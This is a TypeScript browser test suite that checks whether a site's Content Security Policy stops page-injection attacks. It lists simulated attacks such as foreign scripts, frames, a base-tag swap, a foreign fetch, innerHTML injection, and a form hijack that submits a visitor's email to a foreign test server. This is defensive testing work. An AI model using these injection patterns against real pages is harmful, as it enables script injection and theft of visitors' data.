import type { Page } from "@playwright/test";
import { expect, test } from "vitest";
import { securityHeaders } from "../../pages/hosting/headers.ts";
import { describeInBrowser, editMarkup, nextPaint, type OpenOptions } from "../support/browser.ts";

/** Runs in the page, with the address of another server. */
type Act = (foreign: string) => unknown;

/**
 * Attacks by somebody who can write into the page, with the directive that stops each: an element
 * that is added, or a function.
 */
const attacks: Record<string, [directive: string, Record<string, string> | Act]> = {
  "an inline script": ["script-src-elem", { tag: "script", text: "attack()" }],
  "a foreign script": ["script-src-elem", { tag: "script", src: "FOREIGN/a.js" }],
  "a foreign style sheet": [
    "style-src-elem",
    { tag: "link", rel: "stylesheet", href: "FOREIGN/a.css" },
  ],
  "a foreign picture": ["img-src", { tag: "img", src: "FOREIGN/a.png" }],
  "a foreign frame": ["frame-src", { tag: "iframe", src: "FOREIGN/" }],
  "a base address": ["base-uri", { tag: "base", href: "FOREIGN/" }],
  "an inline style sheet": ["style-src-elem", { tag: "style", text: "h1 { opacity: 0.5 }" }],
  "a style attribute": ["style-src-attr", { tag: "p", style: "opacity: 0.5" }],
  "a foreign request": ["connect-src", (foreign) => fetch(foreign, { mode: "no-cors" })],
  "markup made of a text": [
    "require-trusted-types-for",
    () => {
      document.body.innerHTML = "<p>Attacked</p>";
    },
  ],
  "a policy that trusts any text": [
    "trusted-types",
    () => {
      // Not yet among TypeScript's own types.
      const { trustedTypes } = window as { trustedTypes?: { createPolicy(name: string): object } };
      trustedTypes?.createPolicy("attack");
    },
  ],
  "a foreign form target": [
    "form-action",
    (foreign) => {
      const form = document.querySelector("form");
      const email = document.querySelector<HTMLInputElement>("[type='email']");
      if (!form || !email) return;
      form.action = `${foreign}/attack`;
      email.value = "visitor@example.com";
      form.requestSubmit();
    },
  ],
};

function addElement({ foreign = "", tag = "", text = "", ...attributes }: Record<string, string>) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes))
    element.setAttribute(name, value.replace("FOREIGN", foreign));
  element.append(text);
  document.body.append(element);
}

/** Keeps, in the page, the directive that has just stopped something. */
const recordViolation = () =>
  addEventListener("securitypolicyviolation", ({ effectiveDirective, disposition }) => {
    if (disposition === "enforce") document.documentElement.dataset.violated = effectiveDirective;
  });

/** Opens pages like a browser without Trusted Types. */
const forgetTrustedTypes = (page: Page) =>
  editMarkup(page, (markup) => markup.replace(/; require-trusted-types[^"]+/, ""));

describeInBrowser(
  "the page's own policy",
  (site) => {
    // Trusted types alone would stop most attacks, but not every browser knows them.
    const [others = [], aboutTypes = []] = [false, true].map((isWanted) =>
      Object.entries(attacks).filter(([, [name]]) => /trusted-types/.test(name) === isWanted),
    );

    /** Tries attacks one after the other on one page, and expects each to be stopped. */
    async function tryAttacks(tried: typeof aboutTypes, options?: OpenOptions) {
      const page = await site.open(options);
      const foreign = await site.serve({});
      await page.evaluate(recordViolation);
      const root = page.locator(":root");
      for (const [name, [directive, attack]] of tried) {
        await root.evaluate((root) => root.removeAttribute("data-violated"));
        const attempt =
          typeof attack === "function"
            ? page.evaluate(attack, foreign.base)
            : page.evaluate(addElement, { ...attack, foreign: foreign.base });
        // A stopped attack may throw.
        await attempt.catch(() => {});
        const readViolation = () => root.getAttribute("data-violated");
        await expect.poll(readViolation, { message: name }).toBe(directive);
      }
      await nextPaint(page);
      expect(foreign.requests).toEqual([]);
      expect(new URL(page.url()).origin).toBe(site.server.base);
    }

    test("stops texts that become markup", () => tryAttacks(aboutTypes));

    test("stops every other attack, in a browser without trusted types, too", () =>
      tryAttacks(others, { beforeLoad: forgetTrustedTypes }));

    test("leaves a page of public/ its own styles and scripts", async () => {
      const page = await site.open({
        beforeLoad: (page) =>
          page.route("**/", (route) =>
            route.fulfill({
              contentType: "text/html",
              headers: Object.fromEntries(securityHeaders),
              body: "<style>p { opacity: 0.5 }</style><p>Hi</p><script>document.title = 1</script>",
            }),
          ),
      });
      expect(await page.title()).toBe("1");
      const readOpacity = (element: Element) => getComputedStyle(element).opacity;
      expect(await page.locator("p").evaluate(readOpacity)).toBe("0.5");
    });
  },
  // A small window is painted in less time.
  { reducedMotion: "reduce", viewport: { width: 320, height: 240 } },
);
